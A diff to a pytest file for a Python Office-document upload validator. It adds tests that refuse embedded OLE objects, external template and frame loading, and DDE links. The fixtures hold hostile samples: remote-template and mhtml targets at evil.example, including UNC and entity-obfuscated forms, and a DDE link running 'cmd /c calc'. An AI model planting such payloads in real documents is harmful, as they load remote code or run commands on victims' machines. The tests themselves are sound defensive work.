@@ -71,10 +71,70 @@ def test_a_picture_under_another_pictures_extension_is_taken_for_what_it_is() ->
         {"word/vbaProject.bin": b"macro"},
         {"WORD/VBAPROJECT.BIN": b"macro"},
         {"word/activeX/activeX1.xml": b"<x/>"},
+        {"word/embeddings/oleObject1.bin": b"package"},
+        {"xl/embeddings/Microsoft_Word_97.doc": b"package"},
     ],
 )
 def test_a_document_with_macros_or_controls_is_refused(extra: dict[str, bytes]) -> None:
     assert "макросы" in _refusal(documents.office(DOCX, extra), "a.docx").detail
+
+
+def test_a_document_with_a_chart_that_has_its_table_is_taken() -> None:
+    assert _type(documents.office(DOCX, {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"table"}), "a.docx") == DOCX
+
+
+def _relation(kind: str, target: str) -> bytes:
+    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
+    type_ = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
+    one = f'<Relationship Id="r1" Type="{type_}" Target="{target}" TargetMode="External"/>'
+    return f'<Relationships xmlns="{namespace}">{one}</Relationships>'.encode()
+
+
+@pytest.mark.parametrize(
+    ("kind", "target"),
+    [
+        ("attachedTemplate", "https://evil.example/a.dotm"),
+        ("attachedTemplate", "file://evil.example/share/a.dotm"),
+        ("attachedTemplate", r"\\evil.example\a.dotm"),
+        ("attachedTemplate", "&#104;ttp://evil.example/a.dotm"),
+        ("oleObject", "mhtml:http://evil.example/a!x-usc:b"),
+        ("frame", "http://evil.example/"),
+    ],
+)
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_a_document_that_loads_from_elsewhere_is_refused(kind: str, target: str, encoding: str) -> None:
+    relations = _relation(kind, target).decode().encode(encoding)
+
+    refusal = _refusal(documents.office(DOCX, {"word/_rels/settings.xml.rels": relations}), "a.docx")
+
+    assert "загружает" in refusal.detail
+
+
+@pytest.mark.parametrize(
+    ("kind", "target"),
+    [
+        ("attachedTemplate", "file:///C:/Users/oe/Templates/Normal.dotm"),
+        ("hyperlink", "https://example.org/"),
+    ],
+)
+def test_a_document_with_links_or_a_template_of_its_own_disk_is_taken(kind: str, target: str) -> None:
+    assert _type(documents.office(DOCX, {"word/_rels/settings.xml.rels": _relation(kind, target)}), "a.docx") == DOCX
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_a_table_that_starts_programmes_is_refused(encoding: str) -> None:
+    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'.encode(encoding)
+
+    refusal = _refusal(documents.office(XLSX, {"xl/externalLinks/externalLink1.xml": link}), "a.xlsx")
+
+    assert "загружает" in refusal.detail
+
+
+@pytest.mark.parametrize("relations", [b"<a><b></a>", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'])
+def test_relations_that_are_no_plain_xml_are_damage(relations: bytes) -> None:
+    refusal = _refusal(documents.office(DOCX, {"word/_rels/settings.xml.rels": relations}), "a.docx")
+
+    assert "повреждён" in refusal.detail
 
 
 def test_a_macro_document_under_an_innocent_name_is_refused() -> None:
